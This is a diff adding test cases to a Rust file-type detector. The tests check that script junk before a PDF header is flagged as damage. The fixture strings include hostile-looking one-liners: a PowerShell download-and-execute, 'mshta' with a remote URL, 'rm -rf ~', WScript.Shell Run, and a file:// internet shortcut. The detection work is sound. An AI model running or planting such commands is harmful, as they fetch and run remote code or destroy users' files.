@@ -30,12 +30,24 @@ fn junk_before_the_header_is_damage() {
 #[test]
 fn markup_and_scripts_before_the_header_are_damage() {
     for junk in [
-        "@echo off\r\nstart calc\r\n",
+        "x\r\n@echo off\r\nstart calc\r\n",
         "Content-Type: text/html\r\n\r\n<script src=x>",
         "text <?php system(1);",
         "var a = 1 /*",
         "function f() {",
         "\nimport os\n",
+        "Start-Process calc\r\n",
+        "iex (New-Object Net.WebClient).DownloadString('http://a')\r\n",
+        "alert(1);\n",
+        "window.location = 'http://a'\n",
+        "CreateObject(\"WScript.Shell\").Run \"calc\"\r\n",
+        "start calc.exe\r\n",
+        "calc.exe & exit\r\n",
+        "rm -rf ~\n",
+        "mshta http://a\r\n",
+        "use strict;\nsystem 'x';\n",
+        "x\n[InternetShortcut]\r\nURL=file://h/s\r\n",
+        "ID;P\nC;X1;Y1;E1\n",
         "x=$(id)\n",
     ] {
         check(&after(junk.as_bytes()), Kind::Pdf, Some(Damage::LeadingJunk));
@@ -50,10 +62,17 @@ fn printable_lines_before_the_header_are_harmless() {
         "MIME-Version: 1.0\r\nContent-Type: application/pdf; name=\"cv.pdf\"\r\n\
          Message-ID: <a.b@example.org>\r\n\r\n",
         "HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n",
+        "On Mon, 3 Mar 2025 at 10:00, Ada wrote:\nPlease find my CV.\n",
+        "Start of document\nPrint job 17 of 20\nSet 1\n",
+        "If you cannot read this file, call me.\n",
+        "Warning: font Arial (bold) not found on page(s) 1\n",
+        "Content-Disposition: attachment;\r\n filename=\"cv.pdf\"\r\n\r\n",
+        "R\u{e9}sum\u{e9}\n",
         "\x1B%-12345X@PJL JOB\r\n@PJL SET RESOLUTION=600\r\n@PJL ENTER LANGUAGE=PDF\r\n",
     ] {
         check(&after(banner.as_bytes()), Kind::Pdf, None);
     }
+    check(&after(b"R\xE9sum\xE9\n"), Kind::Pdf, None);
 }
 
 #[test]
@@ -67,6 +86,8 @@ fn what_begins_as_something_else_is_that() {
     check(&after(b"MZ\x90\0"), Kind::Executable, None);
     check(&after(b"\x7FELF"), Kind::Executable, None);
     check(&after(b"#!/bin/sh\nexit\n"), Kind::Executable, None);
+    check(&after(b"@echo off\r\ncalc\r\n"), Kind::Executable, None);
+    check(&after(b"[InternetShortcut]\r\nURL=file://h\r\n"), Kind::Executable, None);
     check(&after(b"GIF89a"), Kind::Image, None);
     check(&after(b"<html><!--"), Kind::Html, None);
     check(&after(b"PK\x03\x04"), Kind::Zip, Some(Damage::Truncated));
